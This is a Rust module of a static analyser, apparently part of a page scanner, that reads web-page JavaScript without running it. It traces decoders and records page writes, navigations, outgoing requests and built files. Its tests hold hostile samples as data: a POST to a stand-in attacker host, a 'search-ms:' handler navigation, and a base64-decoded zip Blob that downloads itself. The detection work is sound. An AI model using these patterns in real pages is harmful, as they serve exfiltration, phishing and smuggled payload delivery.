//! A page's JavaScript read as data, never run (no JavaScript engine,
//! DESIGN.md): string literals with their escapes (ECMA-262 §12.9.4),
//! concatenation, variables holding such values, and the decoders a page
//! uses to hide what it shows or builds — `atob` (HTML §8.3, "forgiving
//! base64"), `unescape` and `escape` (ECMA-262 Annex B.2.1), `decodeURI`
//! and `decodeURIComponent` (§19.2.6), `String.fromCharCode` with literal
//! codes, arrays of them (`.map(… fromCharCode …).join('')`, `.apply`,
//! spread, a loop over such an array), `split`/`reverse`/`join`, literal
//! `replace` — followed as far as what they are given is plain data. What
//! is computed otherwise stays unknown, with the decoders and the large
//! encoded literals it came from still known.
//!
//! What it records, for the page reader to judge ([`Facts`]): text written
//! into the page (`document.write`, `innerHTML`, `outerHTML`,
//! `insertAdjacentHTML`, `srcdoc`), addresses navigated to (`location`,
//! `window.open`, `href`, `src`), addresses data is sent to (`fetch`,
//! `XMLHttpRequest.open`, `sendBeacon`, jQuery's `ajax`/`post`, a form's
//! `action` set by script), files built (`new Blob`, `new File`,
//! `msSaveOrOpenBlob`, `data:` URLs) and the string literals that name a
//! protocol handler or a share. Code handed to `eval`, `Function`,
//! `setTimeout` as text is read the same way, three levels deep at most.
//!
//! Bounded: one pass over the tokens (each token is read once, but for
//! a small lookahead), nesting followed to [`MAX_NESTING`] levels, values
//! no longer than [`MAX_VALUE`] characters and [`VALUE_BUDGET`] in all.
//!
//! The reading, file by file, each layer importing only the ones below it
//! (`scripts/import-graph scanner`):
//! - [`literals`]: string, template and numeric literals with their
//!   escapes, and where a regular expression literal ends;
//! - [`lexer`]: the tokens (`Tok`) and the `Lexer` that cuts them;
//! - [`decode`]: the decoders a page calls on plain data (`unescape`,
//!   `escape`, `decodeURIComponent`, `fromCharCode`'s code units) and the
//!   `data:` URL and percent-escape readers the markup shares;
//! - this file: the budgets, what is recorded ([`Facts`]), the values
//!   ([`Value`]), the page's [`Context`], and the [`Reader`] with its
//!   token reading and its statements;
//! - [`expressions`]: operators, literals, members, indexes and
//!   assignments, read into values;
//! - [`calls`]: calls and `new`: the global decoders, the sinks, and the
//!   methods of strings and arrays, each family in a function of its own;
//! - [`sinks`]: what is recorded in the [`Facts`]: text written, addresses
//!   gone to or sent to, files built, code read through `eval`.

mod calls;
mod decode;
mod expressions;
mod lexer;
mod literals;
mod sinks;

pub(crate) use decode::{data_url, percent_bytes};
use lexer::{Lexer, Tok};
use std::collections::HashMap;

/// Brackets, parentheses and blocks followed inside one another.
const MAX_NESTING: usize = 100;
/// Characters (or bytes) one value may hold.
const MAX_VALUE: usize = 16 << 20;
/// Characters (or bytes) all values of one page may hold together.
const VALUE_BUDGET: usize = 64 << 20;
/// Array items and call arguments kept for one page (each is a value in
/// memory, about 64 bytes): a char-code array of a page up to this many
/// characters is decoded, a longer one stays unknown (and a page written
/// from it is held).
const MAX_ITEMS: usize = 65_536;
/// Code read through `eval` and its kin inside one another.
const MAX_EVAL_DEPTH: usize = 3;
/// A literal of this many characters of an encoding alphabet (base64, hex,
/// percent escapes, comma-separated codes), or an array of this many
/// numbers, is a "large embedded string".
pub(crate) const LARGE: usize = 1024;
/// The built-in functions followed when held in a variable, by the path
/// that names them from the global object.
const NATIVES: &[&str] = &[
    "atob",
    "unescape",
    "escape",
    "decodeURIComponent",
    "decodeURI",
    "String.fromCharCode",
    "eval",
    "document.write",
    "document.writeln",
];
/// What a page writes through a function the reading does not know,
/// called on a large encoded literal, is said to go through this.
pub(crate) const UNKNOWN_FUNCTION: &str = "function(…)";

/// The built-in function a path names (`window.atob`, `self.String.fromCharCode`
/// …), the global object's names taken off.
fn native(path: &[String]) -> Option<&'static str> {
    let parts = without_global(path);
    if parts.is_empty() || parts.len() > 2 {
        return None;
    }
    let joined = parts.join(".");
    NATIVES.iter().find(|n| **n == joined).copied()
}

/// `path` with the global object's leading names (`window`, `self`, `top`,
/// `parent`, `globalThis`, `frames`) taken off: `window.atob` is `atob`.
fn without_global(path: &[String]) -> Vec<&str> {
    path.iter()
        .map(String::as_str)
        .skip_while(|p| {
            matches!(
                *p,
                "window" | "self" | "top" | "parent" | "globalThis" | "frames"
            )
        })
        .collect()
}

/// A file the script builds.
#[derive(Debug, Clone, Default)]
pub(crate) struct Build {
    /// The sink: `new Blob`, `new File`, `msSaveOrOpenBlob`, `data: URL`.
    pub sink: &'static str,
    /// Its bytes, when every part of it is plain data.
    pub bytes: Option<Vec<u8>>,
    /// The first decoder what it holds went through.
    pub decoder: Option<&'static str>,
    /// It holds, or is computed from, a large encoded literal.
    pub large: bool,
    /// The type the script gives it (`{type: …}`, a `data:` URL's type).
    pub mime: Option<String>,
    /// The name it is saved under (`download`, `msSaveOrOpenBlob`'s second
    /// argument, `new File`'s name).
    pub name: Option<String>,
}

/// Text the script writes into its page.
#[derive(Debug, Clone)]
pub(crate) struct Written {
    /// The text, as far as it could be read.
    pub html: String,
    /// The decoder it went through (`atob` …), or the sink (`document.write`).
    pub through: &'static str,
    /// Whether it went through a decoder.
    pub decoded: bool,
    /// Whether all of it could be read as plain data.
    pub complete: bool,
}

/// What the scripts of one page do, as far as their data can be read.
#[derive(Debug, Default)]
pub(crate) struct Facts {
    pub written: Vec<Written>,
    /// Addresses navigated to or loaded.
    pub navigations: Vec<String>,
    /// Addresses data is sent to, and a form's `action` set by script.
    pub sends: Vec<String>,
    /// Data is sent somewhere the reading could not resolve.
    pub sends_unknown: bool,
    pub builds: Vec<Build>,
}

/// A JavaScript value as far as it is data.
#[derive(Debug, Clone, Default)]
struct Value {
    data: Data,
    decoder: Option<&'static str>,
    large: bool,
    /// Read exactly (no approximation such as a regular-expression
    /// `replace` taken as no change).
    exact: bool,
    /// For `x.length`: the text whose length it is (`new Uint8Array(x.length)`).
    length_of: Option<Box<Value>>,
}

#[derive(Debug, Clone, Default)]
enum Data {
    #[default]
    Unknown,
    Text(String),
    Bytes(Vec<u8>),
    Num(f64),
    Array(Vec<Value>),
    Object(Vec<(String, Value)>),
    /// A function whose body calls `String.fromCharCode`.
    Function {
        char_code: bool,
    },
    /// A built-in function held as a value (`var d = atob`,
    /// `window['at' + 'ob']`, `const {atob: x} = window`), by its name in
    /// [`NATIVES`]: calling the value calls it.
    Native(&'static str),
    /// A built file (an index into `Facts::builds`).
    Blob(usize),
    /// `a[i]` of an array of numbers (a loop's element).
    ElementOf(Vec<f64>),
    Regex,
}

impl Value {
    fn unknown() -> Value {
        Value::default()
    }
    fn text(s: String) -> Value {
        Value {
            data: Data::Text(s),
            exact: true,
            ..Value::default()
        }
    }
    fn num(n: f64) -> Value {
        Value {
            data: Data::Num(n),
            exact: true,
            ..Value::default()
        }
    }
    /// The flags of `self` and `other` together, data unknown.
    fn taint(mut self, other: &Value) -> Value {
        self.decoder = self.decoder.or(other.decoder);
        self.large |= other.large;
        self.data = Data::Unknown;
        self.exact = false;
        self.length_of = None;
        self
    }
    /// Unknown data with the flags of `self`.
    fn opaque(&self) -> Value {
        Value {
            decoder: self.decoder,
            large: self.large,
            ..Value::default()
        }
    }
    fn as_text(&self) -> Option<&str> {
        match &self.data {
            Data::Text(s) => Some(s),
            _ => None,
        }
    }
    fn known(&self) -> bool {
        !matches!(self.data, Data::Unknown)
    }
    /// As text, the way `+` and `join` turn it into a string.
    fn to_text(&self) -> Option<String> {
        match &self.data {
            Data::Text(s) => Some(s.clone()),
            Data::Num(n) => Some(num_text(*n)),
            Data::Bytes(b) => Some(b.iter().map(|&c| c as char).collect()),
            Data::Array(items) => {
                let parts: Option<Vec<String>> = items.iter().map(Value::to_text).collect();
                parts.map(|p| p.join(","))
            }
            _ => None,
        }
    }
    /// As the bytes a `Blob` holds: strings as UTF-8 (File API §3.1), but
    /// a "binary string" (every character below 256) that a decoder made as
    /// its bytes, as a script's `charCodeAt` loop turns it.
    fn blob_bytes(&self) -> Option<Vec<u8>> {
        match &self.data {
            Data::Text(s) if self.decoder.is_some() && s.chars().all(|c| (c as u32) < 256) => {
                Some(s.chars().map(|c| c as u8).collect())
            }
            Data::Text(s) => Some(s.as_bytes().to_vec()),
            Data::Bytes(b) => Some(b.clone()),
            Data::Num(n) => Some(num_text(*n).into_bytes()),
            _ => None,
        }
    }
}

/// The length a value has as text, without building the text.
fn text_len(v: &Value) -> Option<usize> {
    match &v.data {
        Data::Text(s) => Some(s.len()),
        Data::Num(_) => Some(24),
        Data::Bytes(b) => Some(b.len() * 2),
        Data::Array(items) => items
            .iter()
            .map(text_len)
            .sum::<Option<usize>>()
            .map(|n| n + items.len()),
        _ => None,
    }
}

fn num_text(n: f64) -> String {
    if n.fract() == 0.0 && n.abs() < 1e15 {
        format!("{}", n as i64)
    } else {
        format!("{n}")
    }
}

/// What the reading of one page shares across its scripts: the variables,
/// the facts, and the budgets.
#[derive(Default)]
pub(crate) struct Context {
    vars: HashMap<String, Value>,
    pub facts: Facts,
    spent: usize,
    /// Array items and arguments kept so far.
    items: usize,
    /// The name the next built file is saved under (`a.download = …`).
    pending_name: Option<String>,
}

impl Context {
    /// Reads one script (a `<script>` element, an event attribute, a
    /// `javascript:` URL) in this page's context.
    pub(crate) fn read(&mut self, src: &str) {
        self.read_at(src, 0);
    }

    fn read_at(&mut self, src: &str, depth: usize) {
        let mut r = Reader {
            src,
            lex: Lexer {
                pos: 0,
                regex_ok: true,
            },
            ctx: self,
            nesting: 0,
            depth,
            char_code_seen: 0,
            quiet: false,
        };
        r.run();
    }

    /// Charges `n` array items or arguments; false when the budget is spent.
    fn charge_items(&mut self, n: usize) -> bool {
        if self.items + n > MAX_ITEMS {
            return false;
        }
        self.items += n;
        true
    }

    /// Charges `n` characters to the budget; false when it is spent.
    fn charge(&mut self, n: usize) -> bool {
        if n > MAX_VALUE || self.spent + n > VALUE_BUDGET {
            return false;
        }
        self.spent += n;
        true
    }
}

/// The reading of one script: the tokens at its position, the page's
/// [`Context`] it records into, and its depths (brackets, `eval`). Its
/// methods are spread over this module's files by what they read.
struct Reader<'s, 'c> {
    src: &'s str,
    lex: Lexer,
    ctx: &'c mut Context,
    nesting: usize,
    depth: usize,
    /// How many `fromCharCode` names were read so far (a callback that
    /// calls it is a char-code decoder).
    char_code_seen: usize,
    /// Set while peeking: a literal is recorded on its real read only.
    quiet: bool,
}

impl<'s> Reader<'s, '_> {
    // ---- tokens

    /// The next token; a string literal that names where it goes is
    /// recorded (unless peeking).
    fn next(&mut self) -> Tok<'s> {
        let tok = self.lex.next(self.src);
        match tok {
            Tok::Ident("fromCharCode") => self.char_code_seen += 1,
            Tok::Ident(name)
                if matches!(
                    self.ctx.vars.get(name).map(|v| &v.data),
                    Some(Data::Native("String.fromCharCode"))
                ) =>
            {
                self.char_code_seen += 1
            }
            _ => {}
        }
        if let (Tok::Str(s), false) = (&tok, self.quiet) {
            self.literal_reaches(s);
        }
        tok
    }

    fn peek(&mut self) -> Tok<'s> {
        let saved = self.lex;
        let seen = self.char_code_seen;
        self.quiet = true;
        let tok = self.next();
        self.quiet = false;
        self.lex = saved;
        self.char_code_seen = seen;
        tok
    }

    fn eat(&mut self, p: &str) -> bool {
        if self.peek() == Tok::Punct(p) {
            self.next();
            true
        } else {
            false
        }
    }

    // ---- statements

    fn run(&mut self) {
        while self.peek() != Tok::End {
            self.statement();
        }
    }

    fn statement(&mut self) {
        let before = self.lex.pos;
        match self.peek() {
            Tok::Ident("var" | "let" | "const") => {
                self.next();
                self.declarations();
            }
            Tok::Ident("function") => {
                self.next();
                // `function d(s) { return atob(s) }`: `d` is `atob`.
                if let (
                    Some(name),
                    v @ Value {
                        data: Data::Native(_),
                        ..
                    },
                ) = self.function_rest()
                {
                    self.ctx.vars.insert(name.to_string(), v);
                }
            }
            Tok::Ident(
                "if" | "for" | "while" | "do" | "else" | "switch" | "case" | "default" | "break"
                | "continue" | "try" | "catch" | "finally" | "class" | "async" | "return" | "throw"
                | "typeof" | "void" | "await" | "yield" | "delete" | "of" | "in" | "extends"
                | "static" | "get" | "set" | "import" | "export",
            ) => {
                self.next();
            }
            Tok::Punct("{") => {
                self.next();
                self.block();
            }
            Tok::Punct(_) | Tok::Regex => {
                self.next();
            }
            Tok::End => {}
            _ => {
                self.expr();
            }
        }
        if self.lex.pos == before {
            self.next();
        }
    }

    /// The statements of a block, after its `{`, to its `}`.
    fn block(&mut self) {
        if self.nesting >= MAX_NESTING {
            return;
        }
        self.nesting += 1;
        loop {
            match self.peek() {
                Tok::End => break,
                Tok::Punct("}") => {
                    self.next();
                    break;
                }
                _ => self.statement(),
            }
        }
        self.nesting -= 1;
    }

    /// `var a = …, b = …`, and `const {atob: d, unescape} = window`.
    fn declarations(&mut self) {
        loop {
            if self.peek() == Tok::Punct("{") {
                self.next();
                self.object_pattern();
                if !self.eat(",") {
                    return;
                }
                continue;
            }
            if self.peek() == Tok::Punct("[") {
                self.next();
                self.skip_balanced("]");
                if self.eat("=") {
                    self.assignment_expr();
                }
                if !self.eat(",") {
                    return;
                }
                continue;
            }
            let Tok::Ident(name) = self.peek() else {
                return;
            };
            self.next();
            if self.eat("=") {
                let v = self.assignment_expr();
                self.ctx.vars.insert(name.to_string(), v);
            }
            if !self.eat(",") {
                return;
            }
        }
    }

    /// After `{` of `var {a: x, b} = src`: each name gets the member of
    /// `src` it names, a built-in function when `src` is the global object
    /// or `String`.
    fn object_pattern(&mut self) {
        let mut pairs: Vec<(String, String)> = Vec::new();
        loop {
            let key = match self.next() {
                Tok::End | Tok::Punct("}") => break,
                Tok::Ident(k) => k.to_string(),
                Tok::Str(k) => k,
                _ => continue,
            };
            let alias = if self.eat(":") {
                match self.next() {
                    Tok::Ident(a) => a.to_string(),
                    _ => continue,
                }
            } else {
                key.clone()
            };
            if self.eat("=") {
                self.assignment_expr();
            }
            if pairs.len() < 64 {
                pairs.push((key, alias));
            }
        }
        if !self.eat("=") {
            return;
        }
        let source = match self.peek() {
            Tok::Ident(n) => Some(n.to_string()),
            _ => None,
        };
        let v = self.assignment_expr();
        for (key, alias) in pairs {
            let member = match &v.data {
                Data::Object(fields) => fields
                    .iter()
                    .find(|(k, _)| *k == key)
                    .map(|(_, x)| x.clone())
                    .unwrap_or_default(),
                _ => source
                    .as_ref()
                    .and_then(|s| native(&[s.clone(), key.clone()]))
                    .map(|n| Value {
                        data: Data::Native(n),
                        ..Value::default()
                    })
                    .unwrap_or_else(|| v.opaque()),
            };
            self.ctx.vars.insert(alias, member);
        }
    }

    /// After `function`: an optional name, the parameters, the body.
    /// Returns the name and what the function is: a built-in when its
    /// body only returns the built-in of its argument (`return atob(s)`),
    /// else a function that calls `String.fromCharCode` or not.
    fn function_rest(&mut self) -> (Option<&'s str>, Value) {
        let mut name = None;
        if let Tok::Ident(n) = self.peek() {
            self.next();
            name = Some(n);
        }
        if self.eat("(") {
            self.skip_balanced(")");
        }
        let seen = self.char_code_seen;
        let mut wraps = None;
        if self.eat("{") {
            wraps = self.wrapped_native(true);
            self.block();
        }
        let data = match wraps {
            Some(n) => Data::Native(n),
            None => Data::Function {
                char_code: self.char_code_seen > seen,
            },
        };
        (
            name,
            Value {
                data,
                ..Value::default()
            },
        )
    }

    /// Whether the function body ahead (after its `{` when `block`, else
    /// an arrow's expression) is nothing but a call of a built-in on one
    /// name: `return atob(s); }`, `unescape(s)`. Reads nothing.
    pub(super) fn wrapped_native(&mut self, block: bool) -> Option<&'static str> {
        let saved = (self.lex, self.char_code_seen);
        self.quiet = true;
        let found = self.wrapped_native_ahead(block);
        self.quiet = false;
        (self.lex, self.char_code_seen) = saved;
        found
    }

    fn wrapped_native_ahead(&mut self, block: bool) -> Option<&'static str> {
        if block && self.next() != Tok::Ident("return") {
            return None;
        }
        let mut path = Vec::new();
        loop {
            let Tok::Ident(n) = self.next() else {
                return None;
            };
            path.push(n.to_string());
            match self.next() {
                Tok::Punct(".") if path.len() < 4 => {}
                Tok::Punct("(") => break,
                _ => return None,
            }
        }
        let n = match self.ctx.vars.get(&path[0]) {
            Some(Value {
                data: Data::Native(n),
                ..
            }) if path.len() == 1 => *n,
            Some(_) => return None,
            None => native(&path)?,
        };
        if !matches!(self.next(), Tok::Ident(_)) || self.next() != Tok::Punct(")") {
            return None;
        }
        let mut after = self.next();
        if block && after == Tok::Punct(";") {
            after = self.next();
        }
        let ends = if block {
            after == Tok::Punct("}")
        } else {
            matches!(after, Tok::Punct(";" | ")" | "," | "}") | Tok::End)
        };
        ends.then_some(n)
    }

    /// Skips to the closing `close`, nesting followed by counting.
    fn skip_balanced(&mut self, close: &str) {
        let mut depth = 1usize;
        loop {
            match self.next() {
                Tok::End => return,
                Tok::Punct("(" | "[" | "{") => depth += 1,
                Tok::Punct(p) if matches!(p, ")" | "]" | "}") => {
                    let _ = (p, close);
                    depth -= 1;
                    if depth == 0 {
                        return;
                    }
                }
                _ => {}
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read(src: &str) -> Facts {
        let mut c = Context::default();
        c.read(src);
        c.facts
    }

    #[test]
    fn decoders_follow_plain_data() {
        let f = read("var d = 'PGZvcm0+'; document.write(decodeURIComponent(escape(atob(d))));");
        assert_eq!(f.written[0].html, "<form>");
        assert_eq!(f.written[0].through, "atob");
        assert!(f.written[0].complete);
        let f = read("document.write(unescape('%3Cb%3E%u00e9'))");
        assert_eq!(f.written[0].html, "<b>é");
        let f = read(
            "eval(String.fromCharCode(108,111,99,97,116,105,111,110,61,39,115,101,97,114,99,104,45,109,115,58,120,39))",
        );
        assert_eq!(f.navigations, ["search-ms:x"]);
        let f = read(
            "var a=[60,105,62]; var s=''; for (var i=0;i<a.length;i++){ s += String.fromCharCode(a[i]); } document.body.innerHTML = s;",
        );
        assert_eq!(f.written[0].html, "<i>");
        let f = read(
            "x.innerHTML = [60,98,62].map(function(c){return String.fromCharCode(c)}).join('')",
        );
        assert_eq!(f.written[0].html, "<b>");
        let f = read("document.write('>p<'.split('').reverse().join(''))");
        assert_eq!(f.written[0].html, "<p>");
        let f = read(r#"document.write("\x3c\u0061\u{62}\141>")"#);
        assert_eq!(f.written[0].html, "<ab a>".replace(' ', ""));
    }

    #[test]
    fn decoders_held_in_variables_and_wrappers() {
        for src in [
            "var d = atob; document.write(d('PGZvcm0+'));",
            "var d = window['at' + 'ob']; document.write(d('PGZvcm0+'));",
            "const {atob: x} = window; document.write(x('PGZvcm0+'));",
            "var o = {d: self.atob}; document.write(o.d('PGZvcm0+'));",
            "var d = atob.bind(window); document.write(d.call(null, 'PGZvcm0+'));",
            "function d(s) { return atob(s); } document.write(d('PGZvcm0+'));",
            "var d = function (s) { return window.atob(s) }; document.write(d('PGZvcm0+'));",
            "const d = s => atob(s); document.write(d('PGZvcm0+'));",
            "var a = atob; var b = a; function c(s) { return b(s) } document.write(c('PGZvcm0+'));",
            "var f = String.fromCharCode; document.write(f(60, 102, 111, 114, 109, 62));",
            "var f = String.fromCharCode; document.write([60, 102, 111, 114, 109, 62].map(c => f(c)).join(''));",
        ] {
            let f = read(src);
            assert_eq!(f.written.len(), 1, "{src}");
            assert_eq!(f.written[0].html, "<form>", "{src}");
            assert!(f.written[0].complete, "{src}");
        }
        // Not wrappers: a body that does more, a call of something else.
        let f = read("function d(s) { log(s); return atob(s); } document.write(d('PGZvcm0+'));");
        assert!(f.written.is_empty(), "{:?}", f.written);
        // An unknown function of a large encoded literal hides its result.
        let big = "QUJD".repeat(300);
        let f = read(&format!("document.write(Decodeur.lire('{big}'));"));
        assert_eq!(f.written[0].through, UNKNOWN_FUNCTION);
        assert!(f.written[0].decoded && !f.written[0].complete);
        let f = read("document.write(traduire('Bonjour'));");
        assert!(f.written.is_empty(), "{:?}", f.written);
    }

    #[test]
    fn unknown_input_keeps_its_decoder() {
        let f = read("var k = compute(); document.write(atob(k));");
        assert_eq!(f.written.len(), 1);
        assert!(!f.written[0].complete);
        assert!(f.written[0].decoded);
        let f = read("var rows = []; el.innerHTML = rows.join('');");
        assert!(f.written.is_empty(), "{:?}", f.written);
    }

    #[test]
    fn navigations_and_sends() {
        let f = read("window.location.href = 'search-ms:query=a&crumb=location:\\\\\\\\h\\\\s';");
        assert!(f.navigations.iter().any(|n| n.starts_with("search-ms:")));
        let f = read("setTimeout(function(){ location.replace('https://a.example/') }, 10)");
        assert_eq!(f.navigations, ["https://a.example/"]);
        let f = read(
            "fetch('https://evil.example/c', {method:'POST'}); $.ajax({url: 'https://x.example/p'});",
        );
        assert_eq!(f.sends, ["https://evil.example/c", "https://x.example/p"]);
        let f = read("if (location.protocol === 'file:') {}");
        assert!(f.navigations.is_empty());
    }

    #[test]
    fn builds() {
        let f = read(
            "var d = atob('UEsDBAo='); var a = new Uint8Array(d.length); for (var i = 0; i < d.length; i++) { a[i] = d.charCodeAt(i); } var b = new Blob([a], {type: 'application/zip'}); var l = document.createElement('a'); l.href = URL.createObjectURL(b); l.download = 'x.zip'; l.click();",
        );
        let b = &f.builds[0];
        assert_eq!(b.bytes.as_deref(), Some(&b"PK\x03\x04\x0a"[..]));
        assert_eq!(b.decoder, None, "small and known: its bytes decide");
        assert_eq!(b.name.as_deref(), Some("x.zip"));
        assert_eq!(b.mime.as_deref(), Some("application/zip"));
        let f = read(
            "var bom = new Uint8Array([0xEF, 0xBB, 0xBF]); var blob = new Blob([bom, lignes.join('\\r\\n')], { type: 'text/csv' });",
        );
        let b = &f.builds[0];
        assert_eq!(b.bytes, None);
        assert_eq!(b.decoder, None);
        assert!(!b.large);
        let f = read("navigator.msSaveOrOpenBlob(new Blob([x]), 'a.iso')");
        assert_eq!(f.builds[0].name.as_deref(), Some("a.iso"));
    }

    #[test]
    fn hostile_scripts_stay_bounded() {
        let deep = "(".repeat(100_000) + &"[".repeat(100_000) + &"{".repeat(100_000);
        read(&deep);
        let doubling: String = (0..40)
            .map(|i| format!("var a{} = a{} + a{};", i + 1, i, i))
            .collect();
        read(&format!("var a0 = '{}';{doubling}", "x".repeat(1000)));
        read("'unterminated");
        read("/* unterminated");
        read("`${ unterminated");
        read("\\u{");
        read("a.b.c[");
    }
}
